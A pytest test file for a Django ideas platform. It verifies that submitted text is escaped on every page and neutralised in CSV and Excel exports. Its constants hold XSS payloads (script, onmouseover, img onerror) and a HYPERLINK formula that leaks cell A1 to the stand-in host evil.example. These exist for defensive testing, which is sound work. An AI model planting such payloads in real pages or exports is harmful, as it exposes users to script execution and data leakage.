"""Whatever people type is stored as typed and shown as text: `<script>`, HTML and
`=HYPERLINK(...)` in an idea appear as text on every page and are neutralised in every
export."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from rygrad.alliance.tests.factories import OrganisationFactory
from rygrad.core.permissions import Actor
from rygrad.ideas import answers, services
from rygrad.ideas.models import Idea, Moderation, Status, Theme

SCRIPT = "<script>alert('idé')</script>"
HTML = '<b onmouseover="steal()">fed</b>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")'
ANSWER = "<img src=x onerror=alert(1)> svar"


@pytest.fixture
def hostile(client, world):
    """An idea sent on the public form with all three, approved, themed, answered with an
    HTML answer and held in a release with another answer."""
    client.post(reverse("ideas:submit", kwargs={"slug": world.initiative.slug}), {
        "title": f"{FORMULA} {SCRIPT}", "description": HTML, "submitter_group": "child",
        "nickname": "=1+1"})
    idea = Idea.objects.get()
    assert idea.title == f"{FORMULA} {SCRIPT}" and idea.description == HTML
    by = Actor(user=world.users["secretariat"], initiative=world.initiative)
    services.idea_moderate(idea=idea, by=by, approve=True)
    idea.theme = Theme.objects.create(initiative=world.initiative, name=SCRIPT)
    idea.save()
    services.idea_change_status(idea=idea, by=by, to=Status.ADOPTED, answer=ANSWER,
                                owner=OrganisationFactory(initiative=world.initiative,
                                                          name=FORMULA))
    answers.bulk_answer(initiative=world.initiative, by=by, ideas=[idea],
                        to=Status.PARKED, answer=SCRIPT, new_release=SCRIPT)
    return idea


def _pages(world, idea):
    slug = world.initiative.slug
    release = idea.changes.filter(release__isnull=False).get().release
    return [
        ("anonymous", reverse("ideas:public_list", kwargs={"slug": slug})),
        ("anonymous", reverse("ideas:public_detail", kwargs={"slug": slug,
                                                             "number": idea.number})),
        ("secretariat", reverse("ideas:list", kwargs={"slug": slug})),
        ("secretariat", reverse("ideas:detail", kwargs={"slug": slug, "pk": idea.pk})),
        ("secretariat", reverse("ideas:themes", kwargs={"slug": slug})),
        ("secretariat", reverse("ideas:release", kwargs={"slug": slug, "pk": release.pk})),
        ("secretariat", reverse("ideas:releases", kwargs={"slug": slug})),
        ("secretariat", reverse("ideas:bulk", kwargs={"slug": slug}) + f"?ids={idea.pk}"),
        ("secretariat", reverse("ideas:merge", kwargs={"slug": slug, "pk": idea.pk})),
    ]


def test_scripts_html_and_formulas_are_text_on_every_page(hostile, client_as, world):
    """Given the hostile idea, when each page that shows it is opened by one who may see
    it, then no `<script>`, `<b` or `<img` tag of the idea is in the page, and the text
    is there, escaped."""
    for role, url in _pages(world, hostile):
        text = client_as(role).get(url).content.decode()
        assert "<script>alert" not in text, url
        assert "<b onmouseover" not in text and "<img src=x" not in text, url
        assert "&lt;script&gt;alert(" in text, url


def test_the_moderation_queue_shows_the_text_as_text(client, client_as, world):
    client.post(reverse("ideas:submit", kwargs={"slug": world.initiative.slug}), {
        "title": SCRIPT, "description": HTML, "submitter_group": "child"})
    assert Idea.objects.get().moderation == Moderation.PENDING
    text = client_as("secretariat").get(reverse(
        "ideas:moderation", kwargs={"slug": world.initiative.slug})).content.decode()
    assert "<script>alert" not in text and "<b onmouseover" not in text
    assert "&lt;script&gt;" in text and "&lt;b onmouseover=" in text


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("name,role", [("ideas:public_list", "anonymous"),
                                       ("ideas:list", "secretariat")])
def test_exports_neutralise_formulas(hostile, client_as, world, name, role):
    """Given the hostile idea (its title and owner start with `=`, its nickname is
    `=1+1`), when the list is downloaded as CSV and Excel, then every such text is a
    quoted text cell, never a formula."""
    client = client_as(role)
    url = reverse(name, kwargs={"slug": world.initiative.slug})
    content = _body(client.get(url, {"format": "csv"})).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content), delimiter=";") for cell in row]
    assert f"'{FORMULA} {SCRIPT}" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    sheet = load_workbook(io.BytesIO(_body(client.get(url, {"format": "xlsx"})))).active
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in values if c.data_type == "f"]
    title = next(c for c in values if str(c.value).startswith("=HYPERLINK"))
    assert title.data_type == "s" and title.quotePrefix
